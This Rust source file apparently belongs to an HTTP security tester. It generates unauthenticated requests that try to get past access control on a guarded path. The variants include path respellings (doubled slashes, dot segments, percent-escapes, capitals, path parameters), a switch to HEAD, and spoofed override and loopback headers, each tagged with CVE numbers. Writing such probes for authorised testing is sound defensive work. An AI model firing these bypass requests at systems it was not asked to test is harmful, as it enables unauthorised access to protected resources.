//! Other spellings of the path and of the method, without credentials, out (RFC 3986 section 6).

use http::header::HeaderName;
use http::{HeaderValue, Method};

use super::super::class::Class;
use super::{Attack, Bait};

impl Bait<'_> {
    pub(super) fn path(&self, all: &mut Vec<Attack>) {
        let path = self.guarded.path.split('?').next().unwrap_or("/");
        let mut add = |name, method: &Method, target: String, fields: Vec<(HeaderName, HeaderValue)>| {
            let attack = self.with(Class::Path, name, "RFC 3986 6, RFC 9110 4.2.3", fields);
            all.push(Attack { advisory: "CVE-2020-8595, CVE-2025-54576", method: method.clone(), target, ..attack });
        };
        let spelling = |text: &str| text.to_owned();
        add("no credentials, a slash twice", &self.guarded.method, format!("/{path}"), vec![]);
        add(
            "no credentials, a slash at the end",
            &self.guarded.method,
            format!("{}/", path.trim_end_matches('/')),
            vec![],
        );
        add("no credentials, a dot segment", &self.guarded.method, format!("/.{path}"), vec![]);
        add("no credentials, up and down again", &self.guarded.method, format!("/public/..{path}"), vec![]);
        if let Some(first) = path.chars().nth(1).filter(char::is_ascii) {
            add(
                "no credentials, a letter as an escape",
                &self.guarded.method,
                format!("/%{:02X}{}", first as u32, &path[2..]),
                vec![],
            );
            add("no credentials, in capitals", &self.guarded.method, path.to_ascii_uppercase(), vec![]);
        }
        add("no credentials, a slash as an escape", &self.guarded.method, format!("/%2f{}", &path[1..]), vec![]);
        add("no credentials, a parameter in the path", &self.guarded.method, format!("{path};x=1"), vec![]);
        add("no credentials, an empty query", &self.guarded.method, format!("{path}?"), vec![]);
        add("no credentials, a page's ending", &self.guarded.method, format!("{path}.json"), vec![]);
        if self.guarded.method == Method::GET {
            add("no credentials, HEAD", &Method::HEAD, spelling(path), vec![]);
        }
        let overriding = [
            ("x-http-method-override", "GET"),
            ("x-original-url", "/"),
            ("x-rewrite-url", "/"),
            ("x-original-uri", "/"),
        ];
        let fields = overriding.map(|(name, value)| (HeaderName::from_static(name), HeaderValue::from_static(value)));
        add(
            "no credentials, fields that say another path and method",
            &self.guarded.method,
            spelling(path),
            fields.to_vec(),
        );
        let local = [
            ("x-forwarded-for", "127.0.0.1"),
            ("x-real-ip", "127.0.0.1"),
            ("forwarded", "for=127.0.0.1;host=localhost"),
        ];
        let fields = local.map(|(name, value)| (HeaderName::from_static(name), HeaderValue::from_static(value)));
        add(
            "no credentials, fields that say it comes from here",
            &self.guarded.method,
            spelling(path),
            fields.to_vec(),
        );
    }
}
